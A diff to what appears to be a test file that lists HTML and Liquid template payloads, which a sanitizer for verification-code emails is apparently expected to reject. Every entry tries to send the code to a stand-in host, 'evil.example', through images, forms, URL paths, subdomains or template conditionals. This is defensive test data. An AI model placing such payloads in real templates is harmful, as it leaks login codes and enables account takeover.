@@ -130,6 +130,10 @@ test(
       `<!--[if mso]><img src="${url}"><![endif]-->`,
       `<form action="https://evil.example"><textarea name="u">${code}</textarea></form>`,
       `<p ${code}>x</p>`,
+      `<noscript><img src="https://evil.example/? ${code} "></noscript>`,
+      `<xmp><img src="https://evil.example/? ${code} "></xmp>`,
+      `<p>${code}.evil.example</p>`,
+      `<p>https://evil.example/(${code})</p>`,
       `{{ verification_code | prepend: "https://evil.example/?u=" }}`,
       `{% if verification_code == "123456" %}<img src="https://evil.example/123456">{% endif %}x`,
     ].map((html) => ({ html }))
